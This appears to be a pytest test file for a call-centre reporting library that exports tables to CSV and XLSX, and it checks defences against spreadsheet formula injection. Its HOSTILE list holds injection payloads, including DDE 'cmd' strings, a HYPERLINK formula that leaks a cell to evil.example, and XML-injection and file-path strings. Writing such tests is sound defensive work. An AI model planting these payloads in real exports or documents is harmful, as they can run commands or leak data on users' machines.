"""Tables as CSV and XLSX, read back by programs that are not ours."""

from __future__ import annotations

import csv
import io
import os
import resource
import subprocess
import sys
import zipfile
from collections.abc import Iterable, Iterator
from datetime import datetime, timedelta
from pathlib import Path
from zoneinfo import ZoneInfo

import openpyxl
import pytest
from openpyxl.utils.escape import unescape
from openpyxl.worksheet.worksheet import Worksheet

from callreel.documents import tables
from callreel.documents.cells import as_text
from callreel.documents.tables import Cell, Column, Table, write_csv, write_xlsx

LONDON = ZoneInfo("Europe/London")
# 2026-07-01 12:00:00.250 UTC is 13:00 in London.
NOON = 1_782_907_200_250

HOSTILE = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    '@SUM(1+9)*cmd|" /C calc"!A0',
    "+44 161 496 0123",
    "-5.20",
    "-2+3+cmd|' /C calc'!D2",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\0=1+1",
    "\x0b=1+1",
    " =1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u00a0=1+1",
    "|calc",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(1)",
    "\u22121",
    "x;=1+1",
    'x;"=1+1',
    "x\n=1+1",
    "x\t@SUM(1)",
    "<r></r></is></c><c><f>1+1</f></c><c><is><r></r>",
    "<r><t>1</t></r>",
    "http://evil.example/",
    "mailto:eve@evil.example",
    "file:///etc/passwd",
    "_x0041_=1",
    "\x1b]0;title\x07",
    "\ud800lone",
    "</t></is></c>",
    "{=1+1}",
)
PLAIN = (
    "",
    "0161 496 0123",
    "Ann O'Neill",
    'says "yes"',
    "a, b; c",
    "Zo\u00eb \u2013 Sales",
    "1 = 1",
    "mail ann@example.org",
    "line one\nline two",
    "_x0041_",
    "\u4f60\u597d",
    "<b>&amp;</b>",
)


def table(
    *,
    rows: Iterable[tuple[Cell, ...]] = (("Ann", NOON, 3725.5, 3, 0.25),),
    total: tuple[Cell, ...] | None = ("All", None, 3725.5, 3, 1.0),
    title: str = "Agents",
) -> Table:
    """A table with a column of each kind."""
    columns = (
        Column("agent", "Agent", "text"),
        Column("started_at", "Started", "instant"),
        Column("talk_s", "Talk", "seconds"),
        Column("calls", "Calls", "count"),
        Column("share", "Share", "share"),
    )
    facts = (("Scope", "Manchester"), ("Period", "July 2026"), ("Filters", "=none"))
    return Table(title, facts, columns, rows, total)


def texts(found: Iterable[str]) -> Table:
    """A table of one column of text."""
    return Table("T", (), (Column("t", "T", "text"),), ((each,) for each in found), None)


def as_csv(given: Table, *, for_spreadsheets: bool) -> str:
    """What is written of a table."""
    out = io.StringIO(newline="")
    write_csv(given, out, for_spreadsheets=for_spreadsheets, zone=LONDON)
    return out.getvalue()


def cells_of(written: str) -> list[list[str]]:
    """The cells that a reader of CSV finds."""
    return list(csv.reader(io.StringIO(written, newline="")))


def sheet_of(path: Path, name: str) -> Worksheet:
    """A sheet of a workbook."""
    sheet = openpyxl.load_workbook(path)[name]
    assert isinstance(sheet, Worksheet)
    return sheet


def test_for_machines_values_are_raw_and_instants_have_an_offset() -> None:
    """Keys on the first line, no mark, no total; lines end as RFC 4180 says."""
    assert as_csv(table(), for_spreadsheets=False) == (
        "agent,started_at,talk_s,calls,share\r\nAnn,2026-07-01T13:00:00.250+01:00,3725.5,3,0.25\r\n"
    )


def test_for_spreadsheets_titles_have_units_and_the_total_is_there() -> None:
    """A byte order mark, local times that a spreadsheet knows, and the total as the last line."""
    assert as_csv(table(), for_spreadsheets=True) == (
        "\ufeffAgent,Started (Europe/London),Talk (s),Calls,Share\r\n"
        "Ann,2026-07-01 13:00:00,3725.5,3,0.25\r\n"
        "All,,3725.5,3,1.0\r\n"
    )


def test_for_machines_hostile_text_comes_back_as_it_was() -> None:
    """Nothing is quoted away: a program wants what is stored."""
    given = [each.replace("\ud800", "\ufffd") for each in HOSTILE]
    found = cells_of(as_csv(texts(HOSTILE), for_spreadsheets=False))
    assert [row[0] for row in found[1:]] == given


@pytest.mark.parametrize("text", HOSTILE[:26])
def test_for_spreadsheets_no_cell_begins_a_formula(text: str) -> None:
    """However the cell is cut: at commas, or at the semicolons of another country."""
    written = as_csv(texts([text]), for_spreadsheets=True)
    cells = [row[0] for row in cells_of(written)[1:]]
    assert len(cells) == 1
    assert cells[0].replace("'", "") == text.replace("'", "")
    for cut in (cells, *csv.reader(io.StringIO(written.replace("\0", "")), delimiter=";")):
        for cell in cut:
            bare = cell.lstrip(' "\t\r\n\x0b\u200b\ufeff\u00a0')
            assert not bare.startswith(tuple("=+-@|\uff1d\uff0b\uff0d\uff20\u2212")), cell


@pytest.mark.parametrize("text", PLAIN)
def test_for_spreadsheets_plain_text_is_not_damaged(text: str) -> None:
    """An apostrophe goes only where something would run."""
    assert as_text(text) == text


def test_negative_numbers_stay_numbers() -> None:
    """Only texts are made texts."""
    rows = (("x", None, -5.2, -3, -0.5),)
    written = as_csv(table(rows=rows, total=None), for_spreadsheets=True)
    assert cells_of(written)[1] == ["x", "", "-5.2", "-3", "-0.5"]


def test_a_long_run_of_separators_is_read_once() -> None:
    """A pattern that looked again from each place would need hours."""
    assert as_text("x" + "\t" * 300_000) == "x" + "\t" * 300_000


def test_in_a_workbook_every_hostile_text_is_a_text(tmp_path: Path) -> None:
    """No formula, no link, no XML of the sender; only what XML cannot hold is replaced."""
    path = tmp_path / "t.xlsx"
    write_xlsx(texts([*HOSTILE, *PLAIN[1:]]), path, zone=LONDON)
    sheet = sheet_of(path, "T")
    gone = str.maketrans(dict.fromkeys("\0\x0b\x1b\x07\ud800", "\ufffd"))
    found = [sheet.cell(row, 1) for row in range(2, sheet.max_row + 1)]
    wanted = [each.translate(gone) for each in (*HOSTILE, *PLAIN[1:])]
    assert [unescape(str(c.value)) for c in found] == [each.replace("\r", "\n") for each in wanted]
    assert {c.data_type for c in found} <= {"s", "inlineStr"}
    assert all(c.hyperlink is None for c in found)
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            inside = archive.read(name)
            assert b"<f>" not in inside
            assert b"<hyperlink" not in inside


def test_a_workbook_has_real_dates_and_lengths(tmp_path: Path) -> None:
    """Dates in the zone that was asked for, lengths that may be summed, shares as a share."""
    path = tmp_path / "t.xlsx"
    write_xlsx(table(), path, zone=LONDON)
    sheet = sheet_of(path, "Agents")
    assert sheet.freeze_panes == "A2"
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0] == ("Agent", "Started", "Talk", "Calls", "Share")
    name, started, talk, calls, share = rows[1]
    assert isinstance(started, datetime)
    assert isinstance(talk, timedelta)
    assert abs(started - datetime(2026, 7, 1, 13, 0, 0, 250_000)) < timedelta(milliseconds=2)  # noqa: DTZ001  # a workbook knows no zones
    assert abs(talk - timedelta(seconds=3725.5)) < timedelta(milliseconds=2)
    assert (name, calls, share) == ("Ann", 3, 0.25)
    assert rows[2][0] == "All"
    assert sheet["A3"].font.bold


def test_the_first_sheet_says_what_the_table_is_about(tmp_path: Path) -> None:
    """Scope, period, filters and zone in words, as texts."""
    path = tmp_path / "t.xlsx"
    write_xlsx(table(), path, zone=LONDON)
    book = openpyxl.load_workbook(path)
    assert book.sheetnames == ["About", "Agents"]
    assert list(book["About"].iter_rows(values_only=True)) == [
        ("", "Agents"),
        ("Scope", "Manchester"),
        ("Period", "July 2026"),
        ("Filters", "=none"),
        ("Time zone", "Europe/London"),
    ]


def test_what_is_no_number_is_an_empty_cell(tmp_path: Path) -> None:
    """A share of nothing is not a number, and no file format has one."""
    rows = (("x", None, float("nan"), None, float("inf")),)
    path = tmp_path / "t.xlsx"
    write_xlsx(table(rows=rows, total=None), path, zone=LONDON)
    assert next(sheet_of(path, "Agents").iter_rows(min_row=2, values_only=True)) == (
        "x",
        *(None,) * 4,
    )
    assert cells_of(as_csv(table(rows=rows, total=None), for_spreadsheets=False))[1][1:] == [""] * 4


@pytest.mark.parametrize("at", [-(10**15), -5_000_000_000_000, 10**15, 10**20])
def test_an_instant_out_of_every_calendar_is_told_as_text(tmp_path: Path, at: int) -> None:
    """A wrong clock of a PBX must not lose a whole file."""
    rows = (("x", at, None, None, None),)
    path = tmp_path / "t.xlsx"
    write_xlsx(table(rows=rows, total=None), path, zone=LONDON)
    assert isinstance(sheet_of(path, "Agents")["B2"].value, str)
    assert as_csv(table(rows=rows, total=None), for_spreadsheets=True)


def test_more_rows_than_a_sheet_holds_go_on_in_another(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """None is lost; the total comes last."""
    monkeypatch.setattr(tables, "MAX_ROWS", 10)
    path = tmp_path / "t.xlsx"
    rows = ((f"a{n}", None, None, n, None) for n in range(20))
    write_xlsx(table(rows=rows), path, zone=LONDON)
    book = openpyxl.load_workbook(path)
    assert book.sheetnames == ["About", "Agents", "Agents 2", "Agents 3"]
    found = [
        row[0]
        for name in book.sheetnames[1:]
        for row in book[name].iter_rows(min_row=2, values_only=True)
    ]
    assert found == [f"a{n}" for n in range(20)] + ["All"]


@pytest.mark.parametrize(
    ("title", "name"),
    [
        ("Calls: 1/2 [all]?*\\", "Calls  1 2  all"),
        ("x" * 99, "x" * 31),
        ("'quoted'", "quoted"),
        ("History", "Table"),
        ("about", "Table"),
        ("", "Table"),
        ("a\0b", "a b"),
    ],
)
def test_any_title_makes_a_sheet(tmp_path: Path, title: str, name: str) -> None:
    """Names of sheets have rules that titles have not."""
    path = tmp_path / "t.xlsx"
    write_xlsx(table(title=title), path, zone=LONDON)
    assert openpyxl.load_workbook(path).sheetnames[1].replace("\ufffd", " ") == name


def test_a_text_of_any_length_is_cut_where_a_cell_ends(tmp_path: Path) -> None:
    """Also where the cut would end in what the library takes for XML of its own."""
    path = tmp_path / "t.xlsx"
    sly = "<r>" + "x" * (32_767 - 7) + "</r>" + "tail"
    write_xlsx(texts(["y" * 40_000, sly, "<r>" + "&" * 40_000 + "</r>"]), path, zone=LONDON)
    sheet = sheet_of(path, "T")
    assert sheet["A2"].value == "y" * 32_767
    assert str(sheet["A3"].value).startswith("<r>xxx")
    assert str(sheet["A4"].value).startswith("<r>&&&")


def test_a_workbook_is_its_owners_alone_and_leaves_nothing_beside_it(tmp_path: Path) -> None:
    """Its parts lie in its folder meanwhile, not where everybody's temporary files are."""
    path = tmp_path / "t.xlsx"
    before = os.umask(0)
    try:
        write_xlsx(table(), path, zone=LONDON)
    finally:
        os.umask(before)
    assert path.stat().st_mode & 0o777 == 0o600
    assert [each.name for each in tmp_path.iterdir()] == ["t.xlsx"]


class _EnoughError(Exception):
    """Somebody does not want it any more."""


def test_a_workbook_is_not_wanted_any_more_while_rows_come(tmp_path: Path) -> None:
    """What a row raises ends it, and its parts go."""

    def rows() -> Iterator[tuple[Cell, ...]]:
        """One row, and then no more."""
        yield ("x", None, None, None, None)
        raise _EnoughError

    with pytest.raises(_EnoughError):
        write_xlsx(table(rows=rows()), tmp_path / "t.xlsx", zone=LONDON)
    assert [each.name for each in tmp_path.iterdir()] == ["t.xlsx"]


def test_a_workbook_is_not_wanted_any_more_while_it_is_packed(tmp_path: Path) -> None:
    """Packing takes as long as writing; it stops at once, and its parts go."""
    asked = 0

    def heed() -> None:
        """Stop at the twentieth write."""
        nonlocal asked
        asked += 1
        if asked == 20:
            raise _EnoughError

    rows = ((os.urandom(64).hex(), None, None, n, None) for n in range(5000))
    with pytest.raises(_EnoughError):
        write_xlsx(table(rows=rows), tmp_path / "t.xlsx", zone=LONDON, heed=heed)
    assert asked == 20
    assert [each.name for each in tmp_path.iterdir()] == ["t.xlsx"]


_FILL = """
import os, resource, signal, sys
from pathlib import Path
from zoneinfo import ZoneInfo
from callreel.documents.tables import Column, Table, write_xlsx
signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
when, hard = sys.argv[2], resource.RLIM_INFINITY
def rows():
    for number in range(3_000):
        if (number == 2_000 and when == "rows") or (number == 2_999 and when == "packing"):
            resource.setrlimit(resource.RLIMIT_FSIZE, (1_000, hard))
        yield (os.urandom(64).hex(),)
table = Table("T", (), (Column("t", "T", "text"),), rows(), None)
try:
    write_xlsx(table, Path(sys.argv[1]), zone=ZoneInfo("UTC"))
except OSError as error:
    # Whatever else writes as this process ends, such as a count of lines, has room again.
    resource.setrlimit(resource.RLIMIT_FSIZE, (hard, hard))
    print("told", error.errno)
"""


@pytest.mark.parametrize("when", ["rows", "packing"])
def test_a_disk_that_takes_no_more_is_told_as_what_it_is(tmp_path: Path, when: str) -> None:
    """While rows come, and while they are packed: an error of the system, with its number."""
    done = subprocess.run(
        [sys.executable, "-W", "error", "-c", _FILL, str(tmp_path / "t.xlsx"), when],
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    )
    assert (done.stdout, done.stderr) == ("told 27\n", "")


def test_a_hundred_thousand_rows_need_the_memory_of_a_few(tmp_path: Path) -> None:
    """Rows are read one by one and not kept."""

    def rows(count: int) -> Iterator[tuple[Cell, ...]]:
        """Rows of a kilobyte each."""
        for n in range(count):
            yield (f"{n:06}" * 170, NOON, 1.5, n, 0.5)

    write_xlsx(table(rows=rows(10)), tmp_path / "t.xlsx", zone=LONDON)
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    write_xlsx(table(rows=rows(100_000)), tmp_path / "t.xlsx", zone=LONDON)
    grown_kib = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before
    assert grown_kib < 20_000
